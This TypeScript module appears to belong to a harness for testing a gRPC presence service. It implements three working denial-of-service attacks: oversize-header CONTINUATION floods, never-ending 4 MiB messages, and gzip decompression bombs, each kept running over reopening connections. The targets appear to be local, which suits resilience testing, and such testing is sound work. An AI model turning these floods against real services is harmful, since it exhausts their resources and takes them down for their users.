import { type ClientHttp2Session, connect } from 'node:http2';
import { gzipSync } from 'node:zlib';
import type { Attack, Counts, Target } from './attack.js';
import { flood, keepOpen, openTls } from './connection.js';
import { callHeaders, frame, greeting, message } from './frames.js';

const REOPEN_MS = 20;
const MESSAGE_BYTES = 4 * 2 ** 20;

/** Headers of a megabyte, of gRPC and of HTTP in turns. */
export const oversizeHeaders: Attack = (target, { connections = 1 }) => {
  const counts: Counts = { connections: 0 };
  const part = Buffer.alloc(16_000, 'x');
  keepOpen(connections, (index) => {
    const isGrpc = index % 2 === 0;
    const socket = openTls(isGrpc ? target.grpc : target.http, target, isGrpc ? 'h2' : 'http/1.1', index);
    socket.once('secureConnect', () => {
      counts.connections = (counts.connections ?? 0) + 1;
      socket.resume();
      if (isGrpc) {
        const headers = Buffer.concat([callHeaders('IsOnline'), Buffer.from([0, 127, 0xc1, 0xff, 0x3f])]);
        socket.write(Buffer.concat([greeting(), frame('headers', { stream: 1, payload: headers })]));
        flood(socket, () => frame('continuation', { stream: 1, payload: part }));
      } else {
        socket.write('GET / HTTP/1.1\r\nhost: localhost\r\nx-long: ');
        flood(socket, () => part);
      }
    });
    return socket;
  });
  return counts;
};

/** Calls of which nearly all of a message of 4 MiB comes, and never the end; so many on a connection. */
export const oversizeMessages: Attack = (target, { connections = 1, calls = 1 }) => {
  const counts: Counts = { calls: 0, ended: 0 };
  const unended = message(Buffer.alloc(MESSAGE_BYTES - 1)).subarray(0, MESSAGE_BYTES - 1);
  keepCalling(target, { connections, calls, counts }, () => ({
    headers: {},
    bytes: unended,
    isEnded: false,
  }));
  return counts;
};

/** Messages of a few KiB that are 4 MiB once they are decompressed, so many at once on a connection, without end. */
export const bombs: Attack = (target, { connections = 1, calls = 1 }) => {
  const counts: Counts = { calls: 0, ended: 0 };
  const bytes = message(gzipSync(Buffer.alloc(MESSAGE_BYTES - 1), { level: 9 }), { isCompressed: true });
  keepCalling(target, { connections, calls, counts }, () => ({
    ...{ headers: { 'grpc-encoding': 'gzip' }, bytes, isEnded: true },
  }));
  return counts;
};

interface Calling {
  readonly connections: number;
  readonly calls: number;
  readonly counts: Counts;
}

interface Call {
  readonly headers: Readonly<Record<string, string>>;
  readonly bytes: Buffer;
  readonly isEnded: boolean;
}

/** Keeps so many calls open on so many connections: for each that ends another one is made. */
function keepCalling(target: Target, { connections, calls, counts }: Calling, next: () => Call): void {
  const call = (session: ClientHttp2Session) => {
    if (session.closed || session.destroyed) return;
    const { headers, bytes, isEnded } = next();
    const stream = session.request({
      ...{ ':method': 'POST', ':path': '/phid.v1.PresenceService/IsOnline' },
      ...{ 'content-type': 'application/grpc', te: 'trailers', ...headers },
    });
    counts.calls = (counts.calls ?? 0) + 1;
    stream.on('error', () => {});
    stream.on('close', () => {
      counts.ended = (counts.ended ?? 0) + 1;
      call(session);
    });
    stream.resume();
    if (isEnded) stream.end(bytes);
    else stream.write(bytes);
  };
  const begin = () => {
    const session = connect(`https://${target.grpc}`, { ca: target.ca, servername: 'localhost' });
    session.on('error', () => {});
    session.once('close', () => setTimeout(begin, REOPEN_MS));
    session.once('connect', () => {
      for (let i = 0; i < calls; i++) call(session);
    });
  };
  for (let i = 0; i < connections; i++) begin();
}
